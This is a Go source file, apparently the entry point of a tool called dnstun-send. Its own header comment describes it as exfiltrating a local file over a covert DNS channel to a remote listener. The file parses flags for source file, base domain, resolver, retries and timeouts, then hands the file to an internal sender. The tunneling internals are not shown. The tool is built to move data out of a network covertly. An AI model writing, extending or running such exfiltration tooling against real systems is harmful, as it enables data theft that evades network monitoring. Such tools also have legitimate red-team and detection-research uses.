// Command dnstun-send exfiltrates a single local file over the covert
// DNS channel to a dnstun-recv listener reachable through server.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/dnscovert/dnstun/internal/basedomain"
	"github.com/dnscovert/dnstun/internal/config"
	"github.com/dnscovert/dnstun/internal/logging"
	"github.com/dnscovert/dnstun/internal/session"
	"github.com/dnscovert/dnstun/internal/transport"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintf(os.Stderr, "dnstun-send: %v\n", err)
		os.Exit(1)
	}
}

// cliFlags holds parsed command-line flag values.
type cliFlags struct {
	configPath  string
	baseDomain  string
	server      string
	sourcePath  string
	destFile    string
	sendTimeout time.Duration
	maxAttempts int
	jsonLogs    bool
	debug       bool
}

func parseFlags() cliFlags {
	var f cliFlags
	flag.StringVar(&f.configPath, "config", "", "Path to a dnstun YAML config file")
	flag.StringVar(&f.baseDomain, "base-domain", "", "Override the channel's base domain")
	flag.StringVar(&f.server, "server", "", "Override the upstream resolver HOST:PORT")
	flag.StringVar(&f.sourcePath, "file", "", "Local file to send")
	flag.StringVar(&f.destFile, "as", "", "Destination filename the receiver will write (defaults to the source's base name)")
	flag.DurationVar(&f.sendTimeout, "timeout", 0, "Override the per-packet ack timeout")
	flag.IntVar(&f.maxAttempts, "max-attempts", 0, "Override the per-packet retry budget")
	flag.BoolVar(&f.jsonLogs, "json-logs", false, "Enable JSON structured logging")
	flag.BoolVar(&f.debug, "debug", false, "Enable debug logging")
	flag.Parse()
	return f
}

func applyCLIOverrides(cfg *config.Config, f cliFlags) {
	if f.baseDomain != "" {
		cfg.Sender.BaseDomain = f.baseDomain
	}
	if f.server != "" {
		cfg.Sender.Server = f.server
	}
	if f.sourcePath != "" {
		cfg.Sender.SourcePath = f.sourcePath
	}
	if f.destFile != "" {
		cfg.Sender.DestFile = f.destFile
	}
	if f.sendTimeout > 0 {
		cfg.Sender.SendTimeout = f.sendTimeout.String()
	}
	if f.maxAttempts > 0 {
		cfg.Sender.MaxAttempts = f.maxAttempts
	}
	if f.jsonLogs {
		cfg.Logging.Structured = true
		cfg.Logging.StructuredFormat = "json"
	}
	if f.debug {
		cfg.Logging.Level = "DEBUG"
	}
}

func run() error {
	flags := parseFlags()

	cfg, err := config.Load(flags.configPath)
	if err != nil {
		return fmt.Errorf("load config: %w", err)
	}
	applyCLIOverrides(cfg, flags)

	logger := logging.Configure(logging.Config{
		Level:            cfg.Logging.Level,
		Structured:       cfg.Logging.Structured,
		StructuredFormat: cfg.Logging.StructuredFormat,
		IncludePID:       cfg.Logging.IncludePID,
		ExtraFields:      cfg.Logging.ExtraFields,
	})

	if cfg.Sender.BaseDomain == "" {
		return fmt.Errorf("sender.base_domain must be set (use -base-domain or a config file)")
	}
	if cfg.Sender.SourcePath == "" {
		return fmt.Errorf("sender.source_path must be set (use -file)")
	}

	base, err := basedomain.Parse(cfg.Sender.BaseDomain)
	if err != nil {
		return fmt.Errorf("base domain: %w", err)
	}

	destFile := cfg.Sender.DestFile
	if destFile == "" {
		destFile = filepath.Base(cfg.Sender.SourcePath)
	}

	src, err := os.Open(cfg.Sender.SourcePath)
	if err != nil {
		return fmt.Errorf("open %s: %w", cfg.Sender.SourcePath, err)
	}
	defer src.Close()

	sendTimeout, err := time.ParseDuration(cfg.Sender.SendTimeout)
	if err != nil {
		return fmt.Errorf("sender.send_timeout %q: %w", cfg.Sender.SendTimeout, err)
	}

	logger.Info("dnstun-send starting",
		"server", cfg.Sender.Server,
		"base_domain", base.Dotted(),
		"source", cfg.Sender.SourcePath,
		"dest_file", destFile,
		"send_timeout", sendTimeout,
		"max_attempts", cfg.Sender.MaxAttempts,
	)

	ep, err := transport.DialSender(cfg.Sender.Server)
	if err != nil {
		return fmt.Errorf("dial %s: %w", cfg.Sender.Server, err)
	}
	defer ep.Close()

	observer := &loggingObserver{logger: logger}
	sender := session.NewSender(ep, base, observer, sendTimeout, cfg.Sender.MaxAttempts)

	start := time.Now()
	if err := sender.Send(destFile, src); err != nil {
		return fmt.Errorf("send: %w", err)
	}
	logger.Info("transfer complete", "dest_file", destFile, "elapsed", time.Since(start))
	return nil
}
